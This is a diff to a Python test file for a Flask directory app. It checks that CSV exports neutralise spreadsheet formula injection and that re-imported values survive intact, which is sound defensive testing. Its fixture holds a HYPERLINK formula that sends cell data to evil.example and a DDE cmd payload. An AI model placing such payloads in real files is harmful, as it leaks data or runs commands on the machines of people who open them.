@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -305,3 +307,52 @@ def test_staleness_is_measured_from_the_last_verification(app: Flask) -> None:
         assert not entries.is_stale(entry, now + dt.timedelta(days=180))
         assert entries.is_stale(entry, now + dt.timedelta(days=184))
         assert entries.is_stale(DirectoryEntry(uid="y", name="y", category="legal"), now)
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    "description": "+cmd|' /C calc'!A0",
+    "opening_hours": "Mo-Fr 09:00-12:00",
+    "accessibility": "-2+3",
+    "referral_procedure": "@SUM(1+1)",
+}
+
+
+def formula_entry(app: Flask) -> None:
+    with app.app_context():
+        values = {"uid": "formula", "category": "social", "visibility": "public", **FORMULAS}
+        entries.create_entry({**values, "communes": ["Roanne"], "fees": "gratuit"}, None)
+        db.session().commit()
+
+
+def assert_no_cell_runs_as_a_formula(text: str) -> None:
+    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    for value in FORMULAS.values():
+        if value[0] in "=+-@":
+            assert "'" + value in cells, value
+
+
+def test_a_directory_export_never_writes_a_cell_a_spreadsheet_would_run(
+    directory: Flask,
+    runner: Any,
+    tmp_path: Path,
+    make_staff: Callable[..., StaffAccount],
+    login_as: Callable,
+) -> None:
+    formula_entry(directory)
+    exported = export(runner, tmp_path / "x.csv", "csv")
+    assert_no_cell_runs_as_a_formula(exported)
+    client = staff_browser(directory)
+    login_as(client, make_staff("admin"))
+    response = client.get("/staff/directory/export?format=csv")
+    assert response.status_code == 200
+    assert_no_cell_runs_as_a_formula(response.get_data(as_text=True))
+    # Imported again, the cells are what was typed, not the neutralised text.
+    wipe_directory(directory)
+    assert runner.invoke(args=["directory-import", str(tmp_path / "x.csv")]).exit_code == 0
+    with directory.app_context():
+        entry = entries.entry_by_uid("formula")
+        assert entry is not None and entry.name == FORMULAS["name"]
+        assert entry.description == FORMULAS["description"]
+    assert export(runner, tmp_path / "y.csv", "csv") == exported
